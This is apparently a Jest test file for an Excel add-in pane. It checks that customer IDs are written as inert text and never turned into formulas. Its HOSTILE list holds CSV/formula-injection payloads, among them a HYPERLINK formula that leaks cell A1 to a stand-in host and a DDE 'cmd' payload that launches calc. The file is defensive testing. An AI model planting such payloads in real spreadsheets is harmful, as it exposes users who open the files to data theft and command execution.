/*
 * Class 11, pane side: customer ids such as =HYPERLINK(…) end as inert text in the output sheet. The stand-in
 * treats a text beginning with "=" written to a cell not formatted as text as a formula, as Excel does, so this
 * test fails if the pane ever writes an id into a General cell.
 */
import { StandinRequestContext, StandinWorkbook, asExcelContext } from '../../src/standin';
import { byHeader, runPane } from './paneRun';

const HOSTILE = ['=HYPERLINK("http://x/?"&A1,"click")', "+cmd|' /C calc'!A0", '-2+3+cmd|x', '@SUM(1)', '=1+1'];

describe('formula injection through customer ids', () => {
  test('the stand-in turns "=…" written to a General cell into a formula, and not in a text cell', async () => {
    const book = new StandinWorkbook();
    const sheet = book.addSheet('Out');
    const context = asExcelContext(new StandinRequestContext(book));
    const out = context.workbook.worksheets.getItem('Out');
    out.getRange('A1').values = [['=HYPERLINK("http://x","click")']];
    const text = out.getRange('B1');
    text.numberFormat = [['@']];
    text.values = [['=HYPERLINK("http://x","click")']];
    await context.sync();
    expect([...sheet.formulas.keys()]).toEqual(['0,0']);
  });

  test('hostile ids from a shared sheet end as text in Customer Segments, and nowhere as a formula', async () => {
    const rows = [['customer', 'date', 'amount'], ...HOSTILE.map((id, index) => [id, 45300 + index, 10 + index])];
    const run = await runPane(rows);
    expect(run.events.at(-1)?.type).toBe('runFinished');
    expect(
      byHeader(run.segments)
        .map((row) => row.customer_id)
        .sort(),
    ).toEqual([...HOSTILE].sort());
    for (const sheet of run.book.sheets) {
      if (sheet.name === 'Data') continue;
      expect([sheet.name, [...sheet.formulas.values()]]).toEqual([sheet.name, []]);
    }
  });
});
